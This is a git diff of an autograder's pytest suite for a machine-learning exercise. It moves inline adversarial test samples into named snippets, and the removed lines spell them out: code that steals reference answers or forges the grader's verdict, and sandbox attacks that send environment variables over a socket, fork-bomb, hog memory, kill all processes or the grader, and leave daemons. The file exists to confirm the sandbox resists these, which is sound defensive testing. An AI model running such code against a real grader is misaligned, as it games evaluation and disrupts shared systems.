@@ -16,18 +16,23 @@ import threading
 
 import pytest
 
+from autograder.checks import level_points
 from autograder.judge import reference_results
 from autograder.levels import EXERCISES_DIR, REPO_ROOT, SOLUTIONS_DIR
 from tests.catalog import mutate
 from tests.sandbox_users import MODES, give_to, grading_as, processes_with
+from tests.student_code import at_import, snippet
 
 pytestmark = pytest.mark.slow
 
 STUBS = (EXERCISES_DIR / "level1_manual.py").read_text()
 REFERENCE = (SOLUTIONS_DIR / "level1_manual.py").read_text()
-FULL = 25
+FULL = level_points(1)
 SECRET = "grader-secret-7d1f"
-NAMES = "make_data, init_weights, forward, mse, sgd_update, zero_grad"
+
+
+def source(name, **values):
+    return snippet("sealed", name, **values)
 
 
 def stubs_then(code):
@@ -44,93 +49,44 @@ def reference_then(code):
 
 def answer_thieves():
     """Level files with no solution code that try to take the answers or forge the verdict."""
-    solutions = str(SOLUTIONS_DIR / "level1_manual.py")
-    replay = json.dumps({k: v for k, v in reference_results(1, "cpu", 0).items()})  # right for challenge 0 only
-    take = f"{NAMES} = (ref.make_data, ref.init_weights, ref.forward, ref.mse, ref.sgd_update, ref.zero_grad)"
+    solutions = repr(str(SOLUTIONS_DIR / "level1_manual.py"))
+    replay = repr(json.dumps({k: v for k, v in reference_results(1, "cpu", 0).items()}))  # right for challenge 0 only
     guarded = "try:\n{}\nexcept BaseException:\n    pass"
 
     def attempt(code):
         return stubs_then(guarded.format("\n".join("    " + line for line in code.splitlines())))
 
     return {
-        "via_loader": attempt(f"from autograder.judge import load_reference\nref = load_reference(1)\n{take}"),
-        # the grader's closed forms would answer the gradient and update checks without solving them
-        "via_closed_forms": attempt(
-            "from autograder.checks import closed_form\n"
-            "forward = lambda w, x: x @ w\nmse = lambda y, yhat: ((y - yhat) ** 2).mean()\n"
-            "def sgd_update(w, lr):\n    w.data -= lr * w.grad\n"
-            "def zero_grad(w):\n    w.grad = None\nclosed_form.gradient"),
-        "via_sys_modules": attempt("import sys\nref = [m for n, m in list(sys.modules.items()) "
-                                   f"if 'reference' in n or n.startswith('solutions')][0]\n{take}"),
-        "via_kit_path": attempt(
-            "import importlib.util, pathlib, autograder\n"
-            "path = pathlib.Path(autograder.__file__).parent.parent / 'solutions' / 'level1_manual.py'\n"
-            f"path = path if path.exists() else pathlib.Path({solutions!r})\n"
-            "spec = importlib.util.spec_from_file_location('stolen', path)\n"
-            "ref = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(ref)\n" + take),
-        "exec_by_path": attempt(f"exec(open({solutions!r}).read(), globals())"),
-        "from_solutions": attempt("from solutions.level1_manual import *"),
-        "binds_grader_code": attempt("from autograder.probe.tensors import describe as forward"),
-        # answers computed for another challenge, replayed by re-pointing the kit's probe function
-        "replays_probe_data": attempt(
-            f"import json\nimport autograder.probe.run as steps\nDATA = json.loads({replay!r})\n"
-            "IDS = {probe: check_id for check_id, probe in steps.PROBES.items()}\n"
-            "steps.run_shared = lambda shared, probe, module, ctx, student_file=None: DATA[IDS[probe]]"),
-        # the same answers written straight to every descriptor that might be the grader's channel
-        "writes_channel": attempt(
-            f"import json, os, struct\nDATA = json.loads({replay!r})\n"
-            "frames = [{'id': 'level1.import', 'result': {'data': None}}] + "
-            "[{'id': k, 'result': v} for k, v in DATA.items()] + [{'done': True}]\n"
-            "raw = b''.join(struct.pack('>I', len(b)) + b for b in (json.dumps(f).encode() for f in frames))\n"
-            "for fd in range(3, 64):\n    try:\n        os.write(fd, raw)\n    except OSError:\n        pass"),
+        "via_loader": attempt(source("via_loader")),
+        "via_closed_forms": attempt(source("via_closed_forms")),
+        "via_sys_modules": attempt(source("via_sys_modules")),
+        "via_kit_path": attempt(source("via_kit_path", solutions=solutions)),
+        "exec_by_path": attempt(source("exec_by_path", solutions=solutions)),
+        "from_solutions": attempt(source("from_solutions")),
+        "binds_grader_code": attempt(source("binds_grader_code")),
+        "replays_probe_data": attempt(source("replays_probe_data", replay=replay)),
+        "writes_channel": attempt(source("writes_channel", replay=replay)),
     }
 
 
-TRAIN_FORGERY = mutate(1, {}).replace(
-    "def train(X, Y, w, lr=0.01, epochs=100, num_batches=100, seed=10):",
-    "def train(X, Y, w, lr=0.01, epochs=100, num_batches=100, seed=10):\n"
-    "    with torch.no_grad():\n        w.copy_(torch.tensor([-1.0, 3.0]))\n"
-    "    return [4.4 / 3 ** k for k in range(epochs)]\n\n\ndef _unused_train(X, Y, w, lr=0.01, epochs=100, "
-    "num_batches=100, seed=10):")
+TRAIN_FORGERY = mutate(1, {}).replace("def train(X, Y, w, lr=0.01, epochs=100, num_batches=100, seed=10):",
+                                      source("forges_train"))
 
 
 def neighbours(listen_port):
     """Honest code plus an attack on classmates or the grader: each must still score FULL, and
     the attack must fail (checked after the batch)."""
+    folders = {name: repr(str(REPO_ROOT / name)) for name in ("solutions", "tests", "examples")}
     return {
-        "a_plants_tmp": reference_then("open('/tmp/planted', 'w').write('x')\nopen('/dev/shm/planted', 'w').write('x')"),
-        "b_sees_no_plant": REFERENCE.replace(
-            "import torch\n", "import torch\nimport os\nassert not os.path.exists('/tmp/planted')\n"
-            "assert not os.path.exists('/dev/shm/planted')\n", 1),
-        "calls_home": reference_then(
-            "import socket, os\ns = socket.create_connection(('127.0.0.1', %d), timeout=2)\n"
-            "s.sendall(repr(dict(os.environ)).encode())" % listen_port),
-        "leaves_a_daemon": reference_then(
-            "import os\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
-            "        os.execv('/bin/sleep', ['sleep', '1234.5678'])\n    os._exit(0)"),
-        "kills_what_it_can": reference_then("import os, signal\nos.kill(-1, signal.SIGKILL)"),
-        "kills_the_grader": reference_then("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"),
-        "fork_bomb_is_capped": REFERENCE.replace("import torch\n", (
-            "import torch\nimport os, time\nchildren = []\nfor _ in range(300):\n    try:\n        pid = os.fork()\n"
-            "    except OSError:\n        break\n    if pid == 0:\n        time.sleep(30)\n        os._exit(0)\n"
-            "    children.append(pid)\nassert len(children) < 100, 'no process cap'\n"), 1),
-        "looks_like_a_laptop": REFERENCE.replace("import torch\n", (
-            "import torch\nimport os, getpass, socket\nassert 'grade' not in os.getcwd()\n"
-            "assert os.getuid() == 1000 and getpass.getuser() == 'student'\n"
-            f"assert not any('AUTOGRADER' in k or {SECRET!r} in v for k, v in os.environ.items())\n"
-            f"for seen in [{str(REPO_ROOT / 'solutions')!r}, {str(REPO_ROOT / 'tests')!r}, "
-            f"{str(REPO_ROOT / 'examples')!r}, '/tmp/pytest-of-root']:\n"
-            "    assert not os.path.exists(seen), seen\n"
-            "import importlib.util, autograder\n"  # the probe side only: no judge, closed form or reference
-            "assert [sorted(os.listdir(p)) for p in autograder.__path__] == [['probe']], autograder.__path__\n"
-            "for name in ('autograder.checks', 'autograder.judge', 'autograder.grade', 'autograder.levels'):\n"
-            "    assert importlib.util.find_spec(name) is None, name\n"), 1),
-        "memory_as_a_whole": REFERENCE.replace("import torch\n", (
-            "import torch\nimport os\npids = []\nfor _ in range(4):\n    pid = os.fork()\n    if pid == 0:\n"
-            "        hog = bytearray(400 * 2**20)\n        hog[::4096] = b'x' * len(hog[::4096])\n"
-            "        import time\n        time.sleep(20)\n        os._exit(0)\n    pids.append(pid)\n"
-            "hog = bytearray(400 * 2**20)\nhog[::4096] = b'x' * len(hog[::4096])\n"
-            "for pid in pids:\n    os.waitpid(pid, 0)\n"), 1),
+        "a_plants_tmp": reference_then(source("a_plants_tmp")),
+        "b_sees_no_plant": at_import(source("b_sees_no_plant")),
+        "calls_home": reference_then(source("calls_home", port=listen_port)),
+        "leaves_a_daemon": reference_then(source("leaves_a_daemon")),
+        "kills_what_it_can": reference_then(source("kills_what_it_can")),
+        "kills_the_grader": reference_then(source("kills_the_grader")),
+        "fork_bomb_is_capped": at_import(source("fork_bomb_is_capped")),
+        "looks_like_a_laptop": at_import(source("looks_like_a_laptop", secret=repr(SECRET), **folders)),
+        "memory_as_a_whole": at_import(source("memory_as_a_whole")),
     }
 
 
